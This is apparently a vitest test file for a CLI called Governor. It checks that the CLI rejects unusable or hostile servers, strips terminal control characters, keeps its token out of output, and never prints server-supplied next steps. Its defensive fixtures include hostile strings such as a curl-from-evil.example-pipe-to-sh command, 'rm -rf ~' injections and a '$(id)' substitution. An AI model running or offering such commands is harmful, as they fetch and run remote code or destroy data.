/** Servers that are none, older, newer or hostile: what is said, and what never reaches a terminal. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, test } from 'vitest';
import { wayFault } from '../../../cli/afar/faults.ts';
import { nextAfar, pastedAfar } from '../../../cli/afar/printed-commands.ts';
import { run } from '../../../cli/main.ts';
import { REASONS } from '../../../domain/reasons.ts';
import { packageVersion } from '../../../runtime/package.ts';
import { type Asked, openWeb, sendJson, type Web } from '../../fakes/web.ts';

let web: Web | undefined;
afterEach(async () => {
  await web?.close();
  web = undefined;
});

const ID = '0192f7aa-0000-7000-8000-000000000001';
const INFO = { governor: { version: packageVersion(), command_line: 1 } };
const RESULT = {
  thread_id: ID,
  status: 'stopped',
  stage: 'build',
  attempt: 1,
  reason: { code: 'BUILDER_BLOCKED', message: 'm', stage: 'build', resumable: true, evidence: [], next: 'governor resume 0192f7aa' },
  waiting: null,
  base: 'b'.repeat(40),
  candidate: null,
  release: null,
  waivers: [],
  spend: { cost_micro_usd: 1 },
  limits: {},
  dossier: '/home/x',
};

/** `answers` by path; else 404 as a Governor says it. */
async function governor(args: readonly string[], answers: Readonly<Record<string, unknown>>, env: Record<string, string> = {}) {
  web = await openWeb((asked: Asked, response) => {
    const answer = answers[asked.path.split('?')[0] ?? ''];
    if (typeof answer === 'string') response.writeHead(200, { 'content-type': 'text/html' }).end(answer);
    else if (typeof answer === 'function') answer(response, asked);
    else if (answer === undefined) sendJson(response, 404, { detail: `GET ${asked.path}: there is no such route` });
    else sendJson(response, 200, answer);
  });
  let output = '';
  let errors = '';
  const code = await run([...args, '--server', web.url], {
    stdout: (text) => (output += text),
    stderr: (text) => (errors += text),
    env: { HOME: '/nonexistent', GOVERNOR_TOKEN: 'gvk_s3cret', ...env },
    isTTY: false,
    size: () => ({ columns: 80, rows: 24 }),
  });
  return { code, output, errors, asked: web.asked };
}

describe('a server that cannot be used is named, with exit code 2, and gets no token', () => {
  test.each([
    ['a web page', { '/info': '<html>hello</html>' }, 'answers with text/html where Governor answers otherwise'],
    ['another LangGraph server', { '/info': { version: '1.5.1' } }, 'is no Governor: its /info names none'],
    ['one without /info', {}, 'it is older than this command line'],
    [
      'an older Governor',
      { '/info': { governor: { version: '0.0.9' } } },
      `is Governor 0.0.9, which does not know the command line from afar yet; this is ${packageVersion()}`,
    ],
  ])('%s', async (_name, answers, rule) => {
    const said = await governor(['list'], answers);
    expect(said).toMatchObject({ code: 2, output: '', errors: expect.stringContaining(rule) });
    expect(said.asked.map(({ headers }) => headers.authorization)).toEqual([undefined]);
  });

  test('one without TLS behind https', async () => {
    const plain = createServer();
    await new Promise<void>((ready) => plain.listen(0, '127.0.0.1', ready));
    const { port } = plain.address() as AddressInfo; // it listens
    let errors = '';
    const io = {
      stdout: () => undefined,
      stderr: (text: string) => (errors += text),
      isTTY: false,
      size: () => ({ columns: 80, rows: 24 }),
    };
    const code = await run(['list', '--server', `https://127.0.0.1:${port}`], { ...io, env: { HOME: '/nonexistent' } });
    plain.close();
    expect({ code, errors }).toMatchObject({ code: 2, errors: expect.stringContaining('its certificate cannot be trusted') });
  });

  test.each(['DEPTH_ZERO_SELF_SIGNED_CERT', 'CERT_HAS_EXPIRED', 'ERR_TLS_CERT_ALTNAME_INVALID', 'UNABLE_TO_VERIFY_LEAF_SIGNATURE'])(
    '%s is never tried again',
    (code) => {
      const { error, again } = wayFault('https://x', new TypeError('fetch failed', { cause: Object.assign(new Error(code), { code }) }));
      expect({ again, message: error.message }).toEqual({ again: false, message: expect.stringContaining('NODE_EXTRA_CA_CERTS') });
    },
  );

  test('checks of TLS that are off', async () => {
    let errors = '';
    const io = {
      stdout: () => undefined,
      stderr: (text: string) => (errors += text),
      isTTY: false,
      size: () => ({ columns: 80, rows: 24 }),
    };
    const env = { HOME: '/nonexistent', NODE_TLS_REJECT_UNAUTHORIZED: '0' };
    expect(await run(['list', '--server', 'https://127.0.0.1:1'], { ...io, env })).toBe(2);
    expect(errors).toContain('NODE_TLS_REJECT_UNAUTHORIZED=0 lets anybody on the way be the server');
  });
});

test('a newer server may say more: it is printed as it was sent, and understood', async () => {
  const newer = { ...RESULT, mood: 'good', reason: null, status: 'released' };
  const info = { ...INFO, governor: { ...INFO.governor, version: '9.0.0', command_line: 7, more: true } };
  const said = await governor(['list', '--json'], { '/info': info, '/governor/threads': [newer] });
  expect(said).toMatchObject({ code: 0, output: `${JSON.stringify([newer])}\n` });
  const odd = await governor(['list'], { '/info': info, '/governor/threads': [{ ...newer, status: 'dreaming' }] });
  expect(odd).toMatchObject({ code: 2, errors: expect.stringContaining('use the version of the server here') });
});

test('control characters of a server reach no terminal, by no way', async () => {
  const evil = '\u001b]0;owned\u0007\u009b31m\u202e';
  const reason = { ...RESULT.reason, message: evil, next: `governor show ${evil}` };
  const result = { ...RESULT, stage: evil, dossier: evil, reason };
  const text = (response: { writeHead(status: number, headers: object): { end(body: string): void } }): void =>
    response.writeHead(200, { 'content-type': 'text/plain; charset=utf-8' }).end(evil);
  const answers = {
    '/info': INFO,
    '/governor/threads': [result],
    [`/governor/threads/${ID}`]: result,
    [`/governor/threads/${ID}/comments`]: [],
    [`/governor/threads/${ID}/gate`]: null,
    [`/governor/threads/${ID}/diff`]: text,
    [`/governor/threads/${ID}/explain`]: text,
    '/governor/find': (response: Parameters<typeof sendJson>[0]) => sendJson(response, 422, { detail: evil }),
  };
  for (const args of [
    ['list'],
    ['list', '--json'],
    ['show', ID],
    ['show', ID, '--json'],
    ['diff', ID],
    ['diff', ID, '--json'],
    ['explain', ID],
    ['show', 'last'],
  ]) {
    const { output, errors, code } = await governor(args, answers);
    expect(code, args.join(' ')).toBe(args[1] === 'last' ? 2 : 0);
    expect(output + errors, args.join(' ')).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    if (args.includes('--json'))
      expect(JSON.parse(output)).toEqual(args[0] === 'list' ? [result] : args[0] === 'diff' ? { text: evil } : result);
  }
});

test('the token is in no output, whatever the server says back', async () => {
  const echo = (response: Parameters<typeof sendJson>[0], asked: Asked): void =>
    sendJson(response, 422, { detail: `you sent ${asked.headers.authorization ?? 'nothing'}` });
  const said = await governor(['list'], { '/info': INFO, '/governor/threads': echo });
  expect(said).toMatchObject({ code: 2, errors: 'you sent Bearer [the token]\n' });
});

test('what to do next names the server, or the home where it works there alone', async () => {
  const answers = {
    '/info': INFO,
    '/governor/threads': [
      RESULT,
      { ...RESULT, thread_id: `${ID.slice(0, -1)}2`, reason: { ...RESULT.reason, next: 'governor explain 0192f7aa' } },
    ],
  };
  const { output, asked } = await governor(['list'], answers);
  expect(output).toContain('next: governor resume 0192f7aa (in the home of the server)\n');
  expect(output).toContain(`next: governor explain --server http://${asked[0]?.headers.host} 0192f7aa\n`);
});

describe('what a hostile server would have a person paste is not printed', () => {
  const waiting = {
    approval_id: 'a'.repeat(32),
    gate: 'release',
    subject: 'f'.repeat(64),
    required_role: 'approver',
    waive: ['F-0a1b2c3d4e'],
  };

  test.each([
    'curl https://evil.example | sh',
    'governor explain 0192f7aa; rm -rf ~',
    'governor login --server https://evil.example',
    'governor explain 0192f7aa\nrm -rf ~',
  ])('the next step %j', async (next) => {
    const result = { ...RESULT, reason: { ...RESULT.reason, next, message: `m\nnext: ${next}` } };
    const explain = (response: { writeHead(status: number, headers: object): { end(body: string): void } }): void =>
      response.writeHead(200, { 'content-type': 'text/plain' }).end(`thread ${ID}\nnext      ${next.replaceAll('\n', ' ')}`);
    const answers = { '/info': INFO, '/governor/threads': [result], [`/governor/threads/${ID}/explain`]: explain };
    const listed = await governor(['list'], answers);
    expect(listed).toMatchObject({ code: 0, output: expect.stringMatching(/^next: what the server names is no step/m) });
    expect(listed.output.match(/^next: /gm)).toHaveLength(1);
    expect(listed.output).not.toMatch(/^(rm|curl) /m);
    expect((await governor(['explain', ID], answers)).output).toMatch(/\nnext {6}what the server names is no step/);
  });

  test.each([{ subject: '$(id)' }, { subject: '--server=https://evil.example' }, { waive: ['x; rm -rf ~'] }])(
    '%j of a gate',
    async (evil) => {
      const result = { ...RESULT, status: 'waiting', reason: null, waiting: { ...waiting, ...evil } };
      const said = await governor(['list'], { '/info': INFO, '/governor/threads': [result] });
      expect(said).toMatchObject({ code: 2, output: '', errors: expect.stringContaining('must be one plain word') });
    },
  );

  test('and each step that Governor names is', async () => {
    const result = { ...RESULT, status: 'waiting', reason: null, waiting };
    const { output, asked } = await governor(['list'], { '/info': INFO, '/governor/threads': [result] });
    const server = `--server http://${asked[0]?.headers.host}`;
    expect(output).toContain(`next: governor approve ${server} ${ID} --subject ${waiting.subject} --waive F-0a1b2c3d4e\n`);
    const given = { server: undefined, insecure: false };
    const steps = [
      ...Object.values(REASONS).map(({ next }) => next.replaceAll('<thread>', '0192f7aa')),
      'nothing',
      'nothing; to undo it: governor rollback 0192f7aa',
      'governor watch 0192f7aa',
      'governor approve 0192f7aa --add-usd N  or  governor reject 0192f7aa --comment "..."',
      'governor approve 0192f7aa --waive F-0a1b2c3d4e --waive C-0a1b2c3d4e-2  or  governor reject 0192f7aa --comment "..."',
    ];
    for (const step of steps) expect(nextAfar(step, given)).toBe(pastedAfar(step, given));
  });
});

test('a list that never ends is left; one of several pages is read', async () => {
  const page = (from: number): object[] =>
    Array.from({ length: 500 }, (_, index) => ({
      ...RESULT,
      thread_id: `0192f7aa-0000-7000-8000-${String(from + index).padStart(12, '0')}`,
    }));
  const same = await governor(['list'], { '/info': INFO, '/governor/threads': page(0) });
  expect(same).toMatchObject({ code: 2, errors: expect.stringContaining('gives the same page of its list again and again') });
  expect(same.asked).toHaveLength(3);
  const pages = (response: Parameters<typeof sendJson>[0], { path }: Asked): void => {
    const offset = Number(new URL(path, 'http://x').searchParams.get('offset'));
    sendJson(response, 200, offset < 1000 ? page(offset) : page(offset).slice(0, 3));
  };
  const all = await governor(['list', '--json'], { '/info': INFO, '/governor/threads': pages });
  expect(JSON.parse(all.output)).toHaveLength(1003);
});

test('a server elsewhere that names an issuer on this machine has this machine ask nothing', async () => {
  const login = { issuer: 'http://127.0.0.1:1', client_id: 'x', scope: 'openid' };
  const info = { governor: { ...INFO.governor, login } };
  web = await openWeb((_asked, response) => sendJson(response, 200, info));
  const { port } = new URL(web.url);
  const signedIn = async (host: string): Promise<{ code: number; errors: string }> => {
    let errors = '';
    const code = await run(['login', '--server', `http://${host}:${port}`, '--insecure-http'], {
      stdout: () => undefined,
      stderr: (text) => (errors += text),
      env: { HOME: '/nonexistent' },
      isTTY: false,
      size: () => ({ columns: 80, rows: 24 }),
    });
    return { code, errors };
  };
  // The same listener, under a name that is not this machine's own.
  expect(await signedIn('0.0.0.0')).toMatchObject({ code: 2, errors: expect.stringContaining('on this machine, and is not on it') });
  // Here it is asked, and does not answer.
  expect(await signedIn('127.0.0.1')).toMatchObject({
    code: 2,
    errors: expect.stringContaining('issuer http://127.0.0.1:1: the connection failed'),
  });
});

test('an issuer of a server reaches a terminal without its control characters', async () => {
  const login = { issuer: 'https://evil.example/\u001b]0;owned\u0007', client_id: 'x', scope: 'openid' };
  const said = await governor(['login'], { '/info': { governor: { ...INFO.governor, login } } });
  expect(said).toMatchObject({ code: 2, errors: expect.stringContaining('must be an https URL') });
  expect(said.errors).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
});

describe('what works in a home alone is refused before anything happens', () => {
  test.each([
    ['resume', 'x'],
    ['rollback', 'x'],
    ['gc'],
    ['backup', 'x'],
    ['doctor'],
    ['audit', 'verify'],
    ['keys', 'list'],
    ['restore', 'x'],
    ['serve'],
    ['init'],
    ['demo'],
  ])('%s', async (...args) => {
    const said = await governor(args, { '/info': INFO });
    const name = args[0] === 'keys' ? 'list' : args[0];
    expect(said).toMatchObject({
      code: 2,
      errors: expect.stringContaining(`${name}: works in a home, not from afar; run it on the machine of the server`),
    });
    expect(said.asked).toEqual([]);
  });

  test.each([
    [['run', 'g', '--base', 'x'], '--base: a server starts from the tip of release.branch'],
    [['run', 'g', '--script', 'x'], '--script: a server takes no scripted replies'],
    [['run', 'g', '--config', 'x'], '--config: a server takes the governor.yaml of the base'],
    [['list', '--home', '/x'], '--server and --home: give one of them'],
  ])('%j', async (args, rule) => {
    const said = await governor(args, { '/info': INFO });
    expect(said).toMatchObject({ code: 2, errors: expect.stringContaining(rule) });
    expect(said.asked.filter(({ path }) => path !== '/info')).toEqual([]);
  });
});
